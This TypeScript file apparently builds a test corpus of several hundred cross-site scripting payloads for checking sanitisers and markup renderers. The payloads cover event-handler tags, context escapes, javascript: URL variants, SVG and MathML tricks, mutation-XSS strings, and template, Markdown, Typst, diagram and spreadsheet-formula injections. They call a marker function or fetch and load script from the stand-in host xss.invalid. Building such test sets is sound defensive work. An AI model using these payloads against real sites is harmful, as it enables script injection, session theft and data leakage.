/**
 * Texts that become script, a request or a place to go to wherever a page takes text for markup. Each says which one it
 * was: `xss(17)` where it runs, `http://xss.invalid/17` where it only fetches. Composed from what such attacks consist of,
 * so that all of it meets all of it.
 */
export interface Payload {
  number: number;
  text: string;
}

/** Where a payload stands as the script itself, and where as an address. */
type Template = (script: string, address: string) => string;

const events = [
  'onload',
  'onerror',
  'onclick',
  'onfocus',
  'onblur',
  'onmouseover',
  'onpointerenter',
  'onanimationstart',
  'ontransitionend',
  'ontoggle',
  'onbeforetoggle',
  'onwheel',
  'onscroll',
  'onscrollend',
  'oncontentvisibilityautostatechange',
  'onpaste',
  'oninput',
  'onbeforeinput',
  'onsecuritypolicyviolation',
  'onslotchange',
];

/** Elements with what makes their own event come at once. */
const elements: readonly [tag: string, attributes: string][] = [
  ['img', 'src=x'],
  ['svg', ''],
  ['video', 'src=x autoplay'],
  ['audio', 'src=x autoplay'],
  ['input', 'autofocus'],
  ['details', 'open'],
  ['body', ''],
  ['div', 'tabindex=0 autofocus style="animation:x 1ms;content-visibility:auto"'],
];

const broad: Template[] = elements.flatMap(([tag, attributes]) =>
  events.map(
    (event): Template =>
      (script) =>
        `<${tag} ${attributes} ${event}=${script}>`,
  ),
);

/** Ways out of where a text may stand. */
const exits = [
  '"',
  "'",
  '`',
  '">',
  "'>",
  '-->',
  ']]>',
  '</title>',
  '</textarea>',
  '</style>',
  '</script>',
  '</noscript>',
  '</svg>',
  '*/',
  '\\"',
  '%>',
  '?>',
  '&quot;&gt;',
];
const outOf: Template[] = exits.flatMap((exit): Template[] => [
  (script) => `${exit}<img src=x onerror=${script}>`,
  (script) => `${exit} onfocus=${script} autofocus tabindex=0 x=${exit}`,
]);

const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'java\nscript:',
  ' javascript:',
  '\u0001javascript:',
  'javascript&colon;',
  '&#106;avascript:',
  'data:text/html,<script>',
  'vbscript:',
  'view-source:javascript:',
  'blob:javascript:',
];
const links: Template[] = schemes.flatMap((scheme): Template[] => [
  (script) => `${scheme}${script}`,
  (script) => `<a href="${scheme}${script}">a</a>`,
  (script) => `<iframe src="${scheme}${script}"></iframe>`,
  (script) => `[a](${scheme}${script})`,
]);

const elementsOfTheirOwn: Template[] = [
  (script) => `<script>${script}</script>`,
  (script) => `<ScRiPt >${script}</sCrIpT>`,
  (script) => `<script/x>${script}</script/x>`,
  (script) => `<scr<script>ipt>${script}</scr</script>ipt>`,
  (_script, address) => `<script src="${address}"></script>`,
  (_script, address) => `<script type="module">import "${address}"</script>`,
  (script) => `<svg><script>${script}</script></svg>`,
  (script) => `<svg><script href="data:text/javascript,${script}"/></svg>`,
  (script) => `<svg><a><animate attributeName=href values="javascript:${script}"/><text y=20>a</text></a></svg>`,
  (script) => `<svg><set attributeName=onmouseover to="${script}"/></svg>`,
  (_script, address) => `<svg><use href="${address}#a"/></svg>`,
  (_script, address) => `<svg><image href="${address}"/></svg>`,
  (_script, address) => `<svg><foreignObject><iframe src="${address}"></iframe></foreignObject></svg>`,
  (script) => `<math href="javascript:${script}">a</math>`,
  (script) => `<math><maction actiontype="statusline" xlink:href="javascript:${script}">a</maction></math>`,
  (_script, address) => `<link rel=stylesheet href="${address}">`,
  (_script, address) => `<link rel=prefetch href="${address}">`,
  (_script, address) => `<link rel=preload as=image href="${address}">`,
  (_script, address) => `<meta http-equiv=refresh content="0;url=${address}">`,
  (_script, address) => `<base href="${address}/">`,
  (_script, address) => `<style>@import "${address}";*{background:url(${address})}</style>`,
  (_script, address) => `<div style="background:url(${address})">a</div>`,
  (_script, address) => `<img src="${address}" srcset="${address} 2x">`,
  (_script, address) => `<picture><source srcset="${address}"><img></picture>`,
  (_script, address) => `<video poster="${address}"></video>`,
  (_script, address) => `<object data="${address}"></object>`,
  (_script, address) => `<embed src="${address}">`,
  (_script, address) => `<frameset><frame src="${address}"></frameset>`,
  (_script, address) => `<portal src="${address}"></portal>`,
  (script) => `<iframe srcdoc="<script>parent.${script}</script>"></iframe>`,
  (script) => `<object data="data:text/html,<script>parent.${script}</script>"></object>`,
  (_script, address) => `<form action="${address}"><button autofocus>a</button></form>`,
  (script) => `<button formaction="javascript:${script}" form=x>a</button>`,
  (script) => `<input type=image src=x onerror=${script}>`,
  (script) => `<template shadowrootmode=open><img src=x onerror=${script}></template>`,
  (script) => `<x contenteditable autofocus onfocus=${script}>a</x>`,
  (script) => `<marquee onstart=${script}>a</marquee>`,
  (script) => `<select autofocus onfocus=${script}><option>a</select>`,
  (script) => `<a href="#" popovertarget=x>a</a><x popover id=x onbeforetoggle=${script}>a</x>`,
];

/** Texts that become something else when a sanitiser writes out what it has read in (mutation XSS). */
const mutations: Template[] = [
  (script) => `<svg></p><style><a id="</style><img src=x onerror=${script}>">`,
  (script) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${script}&gt;">`,
  (script) => `<noscript><p title="</noscript><img src=x onerror=${script}>">`,
  (script) =>
    `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img src=x onerror=${script}>">`,
  (script) => `<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror=${script}>">`,
  (script) => `<table><td><svg><desc><table><style></td><img title="</style><img src=x onerror=${script}>">`,
  (script) => `<title><a title="</title><img src=x onerror=${script}>">`,
  (script) => `<textarea><a title="</textarea><img src=x onerror=${script}>">`,
  (script) => `<xmp><a title="</xmp><img src=x onerror=${script}>">`,
  (script) => `<!--><img src=x onerror=${script}>-->`,
  (script) => `<![CDATA[><img src=x onerror=${script}>]]>`,
  (script) => `<?xml-stylesheet href="javascript:${script}"?><a/>`,
  (script) => `&lt;img src=x onerror=${script}&gt;`,
  (script) => `&#60;img src=x onerror=${script}&#62;`,
  (script) => `%3Cimg%20src%3Dx%20onerror%3D${script}%3E`,
  (script) => `\\u003cimg src=x onerror=${script}\\u003e`,
  (script) => `＜img src=x onerror=${script}＞`,
  (script) => `‹script›${script}‹/script›`,
  (script) => `+ADw-script+AD4-${script}+ADw-/script+AD4-`,
];

/** Texts for other readers than HTML: templates, Markdown, Typst, diagrams, workbooks, ways of building code. */
const elsewhere: Template[] = [
  (script) => `{{constructor.constructor('${script}')()}}`,
  (script) => `\${${script}}`,
  (script) => `<%= ${script} %>`,
  (script) => `#{${script}}`,
  (script) => `{@html "<img src=x onerror=${script}>"}`,
  (script) => `{"__html":"<img src=x onerror=${script}>"}`,
  (script) => `{"__proto__":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${script}>"}}}`,
  (_script, address) => `![a](${address})`,
  (_script, address) => `[a]: ${address} "a"`,
  (script) => `<details open ontoggle=${script}>\n\n**a**\n`,
  (script) => `\`\`\`mermaid\ngraph LR; A["<img src=x onerror=${script}>"]\nclick A "javascript:${script}"\n\`\`\``,
  (script) => `$$\\href{javascript:${script}}{a}$$`,
  (script) => `\\unicode{<img src=x onerror=${script}>}`,
  (_script, address) => `#image("${address}")`,
  (script) => `#link("javascript:${script}")[a]`,
  (script) => `#html.elem("script")[${script}]`,
  (_script, address) => `#read("${address}")`,
  (script) => `#raw("<script>${script}</script>")`,
  (script) => `#eval("${script}")`,
  (_script, address) => `=HYPERLINK("${address}","a")`,
  (_script, address) => `=WEBSERVICE("${address}")`,
  (_script, address) => `=IMAGE("${address}")`,
  (_script, address) => `@import url(${address});`,
  (script) => `';${script}//`,
  (script) => `";${script};//`,
  (script) => `\`;${script}//`,
  (script) => `);${script}//`,
  (script) => `alert(1);${script}`,
];

/** At least three hundred, each different, none longer than a line may be; numbered from 1. */
export const payloads: readonly Payload[] = [
  ...broad,
  ...outOf,
  ...links,
  ...elementsOfTheirOwn,
  ...mutations,
  ...elsewhere,
].map((template, index) => {
  const number = index + 1;
  return { number, text: template(`xss(${String(number)})`, `http://xss.invalid/${String(number)}`) };
});
